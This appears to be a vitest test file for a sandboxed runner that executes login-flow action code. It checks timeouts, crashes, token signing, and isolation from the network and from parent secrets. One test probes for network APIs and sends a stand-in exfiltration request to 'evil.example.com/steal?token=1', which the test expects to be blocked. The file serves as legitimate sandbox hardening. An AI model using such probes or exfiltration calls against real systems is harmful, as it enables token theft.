import { createPrivateKey, createSign, type JsonWebKey } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createDefaultEvent } from '../triggers/post-login/defaultEvent.ts'
import type { FlowDocument } from '../engine/flowDocument.ts'
import { LIBRARIES, comparableResult } from '../engine/testing.ts'
import { continueFlow, runFlow, type ProgressEvent } from '../engine/index.ts'
import { createNodeRunner } from './nodeRunner.ts'
import { ESCAPE_ATTEMPTS, PARENT_SECRET, escapeFlow } from './sandbox/escapeAttempts.ts'

const FIXED = { now: '2026-11-23T12:00:00Z', seed: 7 }

function flow(name: string, actions: { id: string; code: string; enabled?: boolean }[]): FlowDocument {
  return {
    version: 1,
    trigger: 'post-login',
    name,
    actions: actions.map(({ id, code, enabled = true }) => ({ id, name: `Action ${id}`, code, enabled, secrets: { API_KEY: 'k-123' } })),
    event: createDefaultEvent(),
    mocks: { http: [{ method: 'GET', url: 'https://api.example.com/roles', status: 200, body: { roles: ['admin'] }, headers: {} }] },
  }
}

const runner = createNodeRunner()
afterAll(() => runner.dispose())

describe('Node runner', () => {
  it('gives the same result as runFlow in-process', async () => {
    const doc = flow('same result', [
      { id: 'roles', code: `
const axios = require('axios')
exports.onExecutePostLogin = async (event, api) => {
  console.log('user', event.user.email)
  const { data } = await axios.get('https://api.example.com/roles', { headers: { 'x-api-key': event.secrets.API_KEY } })
  api.idToken.setCustomClaim('https://example.com/roles', data.roles)
  api.accessToken.setCustomClaim('https://example.com/random', Math.random())
  api.user.setAppMetadata('seen', Date.now())
}` },
      { id: 'off', code: 'exports.onExecutePostLogin = async () => { throw new Error("disabled") }', enabled: false },
      { id: 'fetch', code: `
exports.onExecutePostLogin = async (event, api) => {
  const response = await fetch('https://api.example.com/roles')
  api.accessToken.setCustomClaim('https://example.com/status', response.status)
}` },
    ])
    const events: ProgressEvent[] = []
    const inWorker = await runner.run(doc, { ...FIXED, onProgress: (event) => events.push(event) })
    const inProcess = await runFlow(doc, { ...FIXED, libraries: LIBRARIES })

    expect(inWorker.status).toBe('completed')
    expect(inWorker.actions.map((action) => action.status)).toEqual(['ok', 'disabled', 'ok'])
    expect(inWorker.idToken?.customClaims).toEqual({ 'https://example.com/roles': ['admin'] })
    expect(inWorker.idToken?.jwt).toMatch(/^ey/)
    expect(inWorker.timeline.map((entry) => entry.call)).toEqual(inProcess.timeline.map((entry) => entry.call))
    expect(comparableResult(inWorker)).toEqual(comparableResult(inProcess))
    expect(events.filter((event) => event.type === 'timeline').map((event) => event.entry)).toEqual(inWorker.timeline)
  })

  it('signs tokens with the host\'s node:crypto, byte for byte as the engine\'s own RS256 signer', async () => {
    const doc = flow('tokens', [{ id: 'claims', code: 'exports.onExecutePostLogin = async (event, api) => { api.idToken.setCustomClaim("https://example.com/n", 1) }' }])
    const inWorker = await runner.run(doc, FIXED)
    const inProcess = await runFlow(doc, FIXED)
    expect(inWorker.idToken?.jwt).toMatch(/^ey[\w-]+\.ey[\w-]+\.[\w-]{300,}$/)
    expect([inWorker.idToken?.jwt, inWorker.accessToken?.jwt]).toEqual([inProcess.idToken?.jwt, inProcess.accessToken?.jwt])
    const signed: string[] = []
    const withHost = await runFlow(doc, { ...FIXED, signRs256: (jwk, input) => { signed.push(input); return createSign('RSA-SHA256').update(input).sign(createPrivateKey({ key: jwk as JsonWebKey, format: 'jwk' }), 'base64url') } })
    expect(signed).toHaveLength(2)
    expect(withHost.idToken?.jwt).toBe(inProcess.idToken?.jwt)
  })

  it('has AbortController, AbortSignal (timeout, any) and EventTarget, as Node has, for packages that cancel requests', async () => {
    const code = `exports.onExecutePostLogin = async () => {
  const seen = []
  const controller = new AbortController()
  controller.signal.addEventListener('abort', (event) => seen.push(event.type + ':' + controller.signal.reason))
  const both = AbortSignal.any([controller.signal, AbortSignal.timeout(60000)])
  controller.abort('stop')
  const timed = await new Promise((resolve) => AbortSignal.timeout(5).addEventListener('abort', (event) => resolve(event.target.reason.name)))
  const target = new EventTarget()
  target.addEventListener('ping', () => seen.push('ping'), { once: true })
  target.dispatchEvent(new Event('ping')); target.dispatchEvent(new Event('ping'))
  let thrown = ''
  try { both.throwIfAborted() } catch (reason) { thrown = String(reason) }
  console.log(JSON.stringify([seen, both.aborted, both.reason, timed, thrown, AbortSignal.abort().reason.name]))
}`
    const result = await runner.run(flow('abort', [{ id: 'abort', code }]))
    expect(result.status, JSON.stringify(result.error)).toBe('completed')
    expect(JSON.parse(result.actions[0].logs[0].message)).toEqual([['abort:stop', 'ping'], true, 'stop', 'TimeoutError', 'stop', 'AbortError'])
  })

  it('prints Buffers as Node does from its bundle, where the bundler renames the package\'s Buffer function', async () => {
    const result = await runner.run(flow('buffer', [{ id: 'b', code: 'exports.onExecutePostLogin = async () => { console.log(Buffer.from("ab"), require("buffer").Buffer.name) }' }]))
    expect(result.actions[0].logs.map((log) => log.message)).toEqual(['<Buffer 61 62> Buffer'])
  })

  it('suspends and continues with the same result as in-process', async () => {
    const doc = flow('redirect', [{ id: 'form', code: `
exports.onExecutePostLogin = async (event, api) => { api.redirect.sendUserTo('https://forms.example.com/color') }
exports.onContinuePostLogin = async (event, api) => { api.idToken.setCustomClaim('https://example.com/color', event.request.query.color) }` }])
    const first = await runner.run(doc, FIXED)
    expect(first.status).toBe('suspended')
    const request = { query: { state: first.redirect!.state, color: 'green' } }
    const inWorker = await runner.continue(doc, first, request, FIXED)
    const inProcess = await continueFlow(doc, first, request, FIXED)
    expect(inWorker.status).toBe('completed')
    expect(inWorker.idToken?.customClaims).toEqual({ 'https://example.com/color': 'green' })
    expect(comparableResult(inWorker)).toEqual(comparableResult(inProcess))
  })

  it('fails a continue whose flow changed since the pause with the engine\'s message, its timeline whole', async () => {
    const doc = flow('redirect', [{ id: 'go', code: "exports.onExecutePostLogin = async (event, api) => { console.log('leaving'); api.redirect.sendUserTo('https://example.com') }" }])
    const first = await runner.run(doc, FIXED)
    const changed = flow('redirect', [...doc.actions, { id: 'new', code: 'exports.onExecutePostLogin = async () => {}' }])
    const result = await runner.continue(changed, first, { query: { state: first.redirect!.state } }, FIXED)
    expect(result.status).toBe('failed')
    expect(result.error?.description).toMatch(/changed since this run was suspended/)
    expect(result.timeline.slice(0, first.timeline.length)).toEqual(first.timeline)
    expect(result.timeline.slice(first.timeline.length)).toEqual([expect.objectContaining({ call: 'flow.end', args: [{ status: 'failed', error: 'server_error' }] })])
    expect(result.actions[0].logs.map((log) => log.message)).toEqual(['leaving'])
  })

  it('stops an endless loop at the time limit, then runs the next flow on a fresh worker', async () => {
    const doc = flow('loop', [
      { id: 'first', code: 'exports.onExecutePostLogin = async (event, api) => { api.idToken.setCustomClaim("https://example.com/a", 1) }' },
      { id: 'loop', code: 'exports.onExecutePostLogin = async () => { console.log("looping"); while (true) {} }' },
      { id: 'after', code: 'exports.onExecutePostLogin = async () => {}' },
    ])
    const started = performance.now()
    const result = await runner.run(doc, { timeLimitMs: 1500 })
    const elapsed = performance.now() - started

    expect(elapsed).toBeGreaterThanOrEqual(1500)
    expect(elapsed).toBeLessThan(5000)
    expect(result.status).toBe('failed')
    expect(result.error).toEqual({ code: 'access_denied', description: 'Request to Webtask exceeded allowed execution time', timeout: true, action: 'Action loop' })
    expect(result.actions.map((action) => action.status)).toEqual(['ok', 'failed', 'skipped'])
    expect(result.actions[1].error?.message).toMatch(/time limit of 1.5 s.*endless loop/)
    expect(result.actions[1].logs).toEqual([{ level: 'log', message: 'looping', phase: 'execute', line: 1 }])
    expect(result.timeline.map((entry) => entry.call)).toEqual([
      'action.start', 'api.idToken.setCustomClaim', 'action.end', 'action.start', 'console.log', 'action.end', 'flow.end',
    ])
    expect(result.idToken).toBeNull()

    const next = await runner.run(flow('after the loop', [{ id: 'ok', code: 'exports.onExecutePostLogin = async (event, api) => { api.idToken.setCustomClaim("https://example.com/b", 2) }' }]))
    expect(next.status).toBe('completed')
    expect(next.idToken?.customClaims).toEqual({ 'https://example.com/b': 2 })
  })

  it('keeps the statements a stepping run ran before the time limit stopped it', async () => {
    const doc = flow('stepping loop', [{ id: 'loop', code: 'exports.onExecutePostLogin = async () => {\n  let turns = 0\n  while (true) {\n    turns++\n  }\n}' }])
    const result = await runner.run(doc, { timeLimitMs: 1000, steps: true })
    expect(result.error?.timeout).toBe(true)
    expect(result.steps!.slice(0, 4).map((step) => [step.line, step.kind])).toEqual([[1, 'expression'], [2, 'declaration'], [3, 'loop'], [4, 'expression']])
    expect(result.steps!.length).toBeGreaterThan(100)
    expect(result.steps!.at(-1)).toMatchObject({ actionId: 'loop', line: 4 })
  })

  it('keeps the suspended run when the continue phase loops', async () => {
    const doc = flow('continue loops', [{ id: 'form', code: `
exports.onExecutePostLogin = async (event, api) => { api.redirect.sendUserTo('https://forms.example.com/') }
exports.onContinuePostLogin = async () => { while (true) {} }` }])
    const first = await runner.run(doc)
    const result = await runner.continue(doc, first, { query: { state: first.redirect!.state } }, { timeLimitMs: 1000 })
    expect(result.error?.timeout).toBe(true)
    expect(result.actions[0]).toMatchObject({ status: 'failed', phases: ['execute', 'continue'] })
    expect(result.timeline.slice(0, first.timeline.length)).toEqual(first.timeline)
    expect(result.timeline.at(-1)?.call).toBe('flow.end')
  })

  it('stop() ends the run in progress', async () => {
    const doc = flow('stopped', [{ id: 'spin', code: 'exports.onExecutePostLogin = async () => { while (true) {} }' }])
    const pending = runner.run(doc, { onProgress: (event) => { if (event.type === 'action' && event.status === 'running') runner.stop() } })
    const result = await pending
    expect(result.status).toBe('failed')
    expect(result.error).toMatchObject({ description: 'The run was stopped before it finished.', action: 'Action spin' })
    expect(result.error?.timeout).toBeUndefined()
    expect((await runner.run(flow('after stop', []))).status).toBe('completed')
  })

  it('reports a worker that runs out of memory as a crash and recovers', async () => {
    const doc = flow('oom', [{ id: 'hog', code: 'exports.onExecutePostLogin = async () => { const hog = []; while (true) hog.push(new Array(1e6).fill(1.5)) }' }])
    const result = await runner.run(doc)
    expect(result.status).toBe('failed')
    expect(result.error?.description).toMatch(/crashed.*out of memory/)
    expect(result.actions[0].status).toBe('failed')
    expect((await runner.run(flow('after crash', []))).status).toBe('completed')
  })

  it('fails the run on a rejection nobody handles, as Node does', async () => {
    const result = await runner.run(flow('unhandled', [{ id: 'careless', code: 'exports.onExecutePostLogin = async () => { Promise.reject(new Error("nobody handles me")); await new Promise((resolve) => setTimeout(resolve, 50)) }' }]))
    expect(result.status).toBe('failed')
    expect(result.error).toEqual({ code: 'access_denied', description: 'The engine worker crashed while the flow was running: Error: nobody handles me', action: 'Action careless' })
    expect((await runner.run(flow('after the crash', []))).status).toBe('completed')
  })

  it('fails the run on an error thrown in a timer callback, and runs the next flow', async () => {
    const result = await runner.run(flow('timer', [{ id: 'late', code: 'exports.onExecutePostLogin = async () => { setTimeout(() => { throw new TypeError("too late") }, 1); await new Promise((resolve) => setTimeout(resolve, 50)) }' }]))
    expect(result.error).toEqual({ code: 'access_denied', description: 'The engine worker crashed while the flow was running: TypeError: too late', action: 'Action late' })
    expect((await runner.run(flow('after the timer', []))).status).toBe('completed')
  })

  it('leaves action code no network but the mocked fetch, on the global and along its prototype chain', async () => {
    const doc = flow('hostile', [{ id: 'probe', code: `
exports.onExecutePostLogin = async (event, api) => {
  const names = ['XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'indexedDB', 'caches', 'Worker', 'SharedWorker', 'BroadcastChannel']
  const probes = {}
  for (const name of names) {
    try { probes[name] = globalThis[name] === undefined ? 'absent' : 'GOT ' + typeof globalThis[name] } catch (error) { probes[name] = error.message }
    for (let proto = Object.getPrototypeOf(globalThis); proto; proto = Object.getPrototypeOf(proto)) {
      if (Object.getOwnPropertyDescriptor(proto, name)) probes[name] += ' | GOT from a prototype'
    }
  }
  for (let proto = Object.getPrototypeOf(globalThis); proto; proto = Object.getPrototypeOf(proto)) {
    if (Object.getOwnPropertyDescriptor(proto, 'fetch')) probes.fetchOnPrototype = 'GOT'
  }
  const original = globalThis.fetch
  try { globalThis.fetch = async () => 'replaced' } catch {}
  probes.fetchKept = globalThis.fetch === original && !Reflect.deleteProperty(globalThis, 'fetch')
  const response = await globalThis.fetch('https://api.example.com/roles')
  probes.mocked = response.status + ' ' + JSON.stringify(await response.json())
  try { await global.fetch('https://evil.example.com/steal?token=1'); probes.unmocked = 'GOT' } catch (error) { probes.unmocked = error.message }
  api.idToken.setCustomClaim('https://example.com/probes', probes)
}` }])
    const result = await runner.run(doc)
    expect(result.status).toBe('completed')
    const probes = result.idToken?.customClaims['https://example.com/probes'] as Record<string, unknown>
    // A sandbox context has none of them to begin with (a worker thread had a BroadcastChannel).
    for (const name of ['XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'indexedDB', 'caches', 'Worker', 'SharedWorker', 'BroadcastChannel']) {
      expect(probes[name], name).toMatch(/^(absent|.* is not available in the Actions Playground:.*)$/)
    }
    expect(probes.fetchOnPrototype).toBeUndefined()
    expect(probes.fetchKept).toBe(true)
    expect(probes.mocked).toBe('200 {"roles":["admin"]}')
    expect(probes.unmocked).toBe('fetch failed: No HTTP mock answers GET https://evil.example.com/steal?token=1. Add one under HTTP mocks (method, URL, status, body).')
    expect(result.http.map((exchange) => [exchange.url, exchange.mock])).toEqual([
      ['https://api.example.com/roles', 0],
      ['https://evil.example.com/steal?token=1', null],
    ])
  })
})

describe('Node runner sandbox (both layers)', () => {
  beforeAll(() => { process.env[PARENT_SECRET.name] = PARENT_SECRET.value })
  afterAll(() => { delete process.env[PARENT_SECRET.name] })

  for (const attempt of ESCAPE_ATTEMPTS) {
    it(`fails ${attempt.name} with a clear error`, async () => {
      const result = await runner.run(escapeFlow(attempt))
      expect(result.status).toBe('failed')
      expect(result.error?.description).toMatch(attempt.error)
      expect(JSON.stringify(result)).not.toContain(PARENT_SECRET.value)
    })
  }
})
